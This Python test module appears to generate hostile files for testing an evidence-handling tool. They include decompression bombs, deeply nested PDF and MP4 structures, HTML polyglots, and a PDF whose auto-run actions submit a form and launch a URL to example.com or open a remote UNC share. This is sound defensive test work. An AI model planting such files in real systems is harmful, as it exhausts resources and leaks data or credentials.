"""More hostile files: such as cost whoever opens them, and such as are two things at once."""

from __future__ import annotations

import struct
import zlib

from PIL import Image

from tests.opsdesk.files import (
    HTML,
    SCRIPT,
    box,
    chunk,
    ftyp,
    header,
    jpeg,
    moov,
    mp4,
    pdf,
    png,
    png_of,
    saved,
    stream,
)
from tests.opsdesk.hostile_evidence import BROKEN, LARGE, Case

WORDS = b"a\0\0\0\0\0" + SCRIPT * (10 << 14)


def costly() -> list[Case]:
    """Small for what they cost whoever opens them without bounds."""
    plain = jpeg()
    scan = plain.index(b"\xff\xda")
    data = scan + 2 + int.from_bytes(plain[scan + 2 : scan + 4], "big")
    steps = saved(Image.new("L", (5_000, 5_000)), "JPEG", progressive=True)
    last = steps.rindex(b"\xff\xda")
    one, pixels, end = header(1, 1), chunk(b"IDAT", zlib.compress(b"\0" + bytes(3))), chunk(b"IEND")
    bomb = zlib.compress(bytes(200 << 20), 9)
    folded = zlib.compress(zlib.compress(b"0 0 m 300 400 l S\n" * 3_000_000, 9), 9)
    deep = b"x"
    for _level in range(2_000):
        deep = box(b"udta", deep)
    nested = b"<< /Type /Pages /Count 1 /Kids [%s] >>"
    return [
        Case("jpeg of 65,000 restarts", plain[:data] + b"\xff\xd0" * 65_000 + plain[data:], ""),
        Case("jpeg drawn in thousands of steps", steps[:-2] + steps[last:-2] * 3_000 + steps[-2:], LARGE),
        Case("png with ten megabytes of words", png_of(one, chunk(b"iTXt", WORDS), pixels, end), ""),
        Case(
            "png with a bomb of words",
            png_of(one, chunk(b"iTXt", b"a\0\1\0\0\0" + bomb), pixels, end),
            BROKEN,
        ),
        Case(
            "pdf folded twice",
            pdf(
                objects=[stream(folded, b"/Filter [/FlateDecode /FlateDecode]")],
                page=b"/Contents 5 0 R",
            ),
            LARGE,
            "proof.pdf",
        ),
        Case(
            "pdf that claims two billion objects",
            pdf().replace(b"/Size 6", b"/Size 2147483647"),
            "",
            "proof.pdf",
        ),
        Case(
            "pdf whose pages lie ten thousand levels deep",
            pdf(
                kids=nested % b"5 0 R",
                objects=[*(nested % (b"%d 0 R" % number) for number in range(6, 10_000)), nested % b"3 0 R"],
            ),
            BROKEN,
            "proof.pdf",
        ),
        Case("film of boxes in boxes", mp4(more=box(b"meta", deep)), "", "proof.mp4"),
        Case(
            "film whose index has a million boxes",
            ftyp() + moov(*[box(b"trak", box(b"mdia", box(b"free") * 1_000))] * 1_000) + box(b"mdat", b"x"),
            BROKEN,
            "proof.mp4",
        ),
        Case(
            "film whose index is larger than any",
            ftyp() + box(b"moov", box(b"free", bytes(17 << 20))) + box(b"mdat", b"x"),
            BROKEN,
            "proof.mp4",
        ),
    ]


def two_faced() -> list[Case]:
    """One thing to the desk, or so they hope, and another to who opens them."""
    plain = jpeg()
    script = b"<< /S /JavaScript /JS (app.launchURL\\('https://example.com'\\)) >>"
    submits = b"<< /S /SubmitForm /F << /FS /URL /F (https://example.com) >> /Flags 4 >>"
    field = b"<< /FT /Btn /T (b) /Type /Annot /Subtype /Widget /Rect [0 0 300 400] /A %s /AA << /E %s >> >>"
    leads = box(b"dref", bytes(4) + struct.pack(">I", 1) + box(b"url ", bytes(4) + b"https://example.com\0"))
    return [
        Case("jpeg under another coding", plain.replace(b"\xff\xc0", b"\xff\xc9"), BROKEN),
        Case("jpeg without loss", plain.replace(b"\xff\xc0", b"\xff\xc3"), BROKEN),
        Case("jpeg of twelve bits", plain.replace(b"\xff\xc0\x00\x11\x08", b"\xff\xc0\x00\x11\x0c"), BROKEN),
        Case("png of a telephone's own kind", png().replace(b"IHDR", b"CgBI"), BROKEN),
        Case(
            "png with a page as its first words",
            png_of(
                header(1, 1), chunk(b"tEXt", HTML), chunk(b"IDAT", zlib.compress(bytes(4))), chunk(b"IEND")
            ),
            "",
            "proof.html",
        ),
        Case("pdf that is a page, too", b"%PDF-1.7\n%" + HTML + b"\n" + pdf()[9:], "", "proof.html"),
        Case(
            "pdf that sends a form away",
            pdf(
                catalog=b"/AcroForm << /Fields [5 0 R] /XFA 6 0 R >> /OpenAction " + submits,
                page=b"/Annots [5 0 R]",
                objects=[field % (submits, script), stream(b"<xdp>" + SCRIPT + b"</xdp>")],
            ),
            "",
            "proof.pdf",
        ),
        Case(
            "pdf that opens another",
            pdf(
                catalog=b"/OpenAction << /S /GoToR /F (\\\\\\\\example.com\\\\share\\\\a.pdf) /D [0 /Fit] >>"
            ),
            "",
            "proof.pdf",
        ),
        Case(
            "film that leads away",
            ftyp()
            + moov(
                box(b"trak", box(b"mdia", box(b"hdlr", bytes(8) + b"vide" + bytes(13)), box(b"minf", leads)))
            )
            + box(b"mdat", b"frames"),
            "",
            "proof.mp4",
        ),
        Case("film with a page of its own", mp4(more=box(b"uuid", bytes(16) + HTML)), "", "proof.html"),
    ]
